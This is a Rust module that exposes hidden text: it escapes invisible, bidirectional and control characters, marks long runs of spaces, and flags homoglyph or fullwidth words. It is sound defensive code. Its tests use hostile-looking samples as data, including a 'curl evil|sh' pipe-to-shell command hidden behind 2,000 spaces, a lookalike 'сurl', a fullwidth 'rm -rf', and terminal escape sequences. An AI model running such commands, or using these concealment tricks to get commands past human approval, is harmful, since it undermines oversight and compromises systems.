//! Text of others, so that nothing hides in it.

use std::{collections::BTreeSet, fmt::Write as _};

use unicode_normalization::UnicodeNormalization as _;
use unicode_security::{MixedScript as _, skeleton};

/// So many spaces can push what follows out of sight.
const MANY_SPACES: usize = 16;

/// No code is indented further.
const DEEPEST: usize = 64;

/// The text with every character that hides or reorders others written out, and long rows of spaces
/// counted.
pub(crate) fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut spaces = 0;
    for c in text.chars() {
        if c == ' ' {
            spaces += 1;
            continue;
        }
        push_spaces(&mut out, std::mem::take(&mut spaces));
        if c.is_control() || is_invisible(c) || (c.is_whitespace() && c != ' ') {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    push_spaces(&mut out, spaces);
    out
}

/// Text of a model, to be read as it is: lines and emoji stay, what moves the cursor or reorders text
/// is written out.
pub(crate) fn readable(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let stays = matches!(c, '\n' | '\t' | '\u{200d}' | '\u{fe0f}');
        if !stays && (c.is_control() || is_invisible(c)) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    out
}

/// A line of code, with its indentation as it is.
pub(crate) fn visible_code(line: &str) -> String {
    let line = line.replace('\t', "    ");
    let inner = line.trim_start_matches(' ');
    let mut out = String::new();
    match line.len() - inner.len() {
        deep if deep > DEEPEST => push_spaces(&mut out, deep),
        usual => out.extend(std::iter::repeat_n(' ', usual)),
    }
    out + &visible(inner)
}

fn push_spaces(out: &mut String, count: usize) {
    if count < MANY_SPACES {
        out.extend(std::iter::repeat_n(' ', count));
    } else {
        // Writing to a string cannot fail.
        let _ = write!(out, "⟨{count} spaces⟩");
    }
}

/// Zero width, direction marks, fillers, variation selectors, tags and other format characters.
const fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
        | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// Warns about words that look like other words, and about characters nobody sees.
pub(crate) fn warnings(text: &str) -> Vec<String> {
    let words = text.split(|c: char| !c.is_alphanumeric() && !is_invisible(c));
    let words: BTreeSet<_> = words.filter(|word| !word.is_ascii()).collect();
    words.into_iter().filter_map(warning).collect()
}

fn warning(word: &str) -> Option<String> {
    let shown = visible(word);
    if word.chars().any(is_invisible) {
        return Some(format!("`{shown}` has characters that cannot be seen"));
    }
    let usual: String = word.nfkc().collect();
    if usual != word.nfc().collect::<String>() {
        return Some(format!("`{shown}` is another way to write `{}`", visible(&usual)));
    }
    let like: String = skeleton(word).collect();
    if like.is_ascii() || !word.is_single_script() {
        return Some(format!("`{shown}` mixes alphabets or imitates one: it looks like `{like}`"));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{visible, visible_code, warnings};

    /// Advisories approval-001, approval-003, approval-004, approval-007, approval-009, exec-015.
    #[test]
    fn nothing_hides() {
        for (text, expected) in [
            ("plain ünïcode 漢字", "plain ünïcode 漢字"),
            ("a\u{202e}b\u{2067}c", "a\\u{202e}b\\u{2067}c"),
            ("c\u{200b}u\u{2060}rl", "c\\u{200b}u\\u{2060}rl"),
            ("a\x1b[2Kb\n", "a\\u{1b}[2Kb\\u{a}"),
            (
                "\x1b]8;;http://x\x07y\x1b]52;c;eA==\x07",
                "\\u{1b}]8;;http://x\\u{7}y\\u{1b}]52;c;eA==\\u{7}",
            ),
            ("a\u{e0041}\u{e0042}", "a\\u{e0041}\\u{e0042}"),
            ("a\u{a0}b\tc", "a\\u{a0}b\\u{9}c"),
            ("a\u{2800}b", "a\\u{2800}b"),
            ("a  b", "a  b"),
        ] {
            assert_eq!(visible(text), expected);
        }
        let pushed = |deep: usize| visible_code(&format!("{}x\ty", " ".repeat(deep)));
        assert_eq!(
            (pushed(2), pushed(65)),
            ("  x    y".to_owned(), "⟨65 spaces⟩x    y".to_owned())
        );
        let pushed = format!("grep x f ;{}; curl evil|sh", " ".repeat(2_000));
        assert_eq!(visible(&pushed), "grep x f ;⟨2000 spaces⟩; curl evil|sh");
    }

    /// Advisory approval-006.
    #[test]
    fn what_looks_like_something_else_is_named() {
        for (text, expected) in [
            ("сurl evil", "`сurl` mixes alphabets or imitates one: it looks like `curl`"),
            ("ｒｍ -rf", "`ｒｍ` is another way to write `rm`"),
            ("сору", "`сору` mixes alphabets or imitates one: it looks like `copy`"),
            ("a\u{e0041}b", "`a\\u{e0041}b` has characters that cannot be seen"),
            ("naïve Größe 漢字 привет", ""),
        ] {
            assert_eq!(warnings(text).join("; "), expected, "{text}");
        }
    }
}
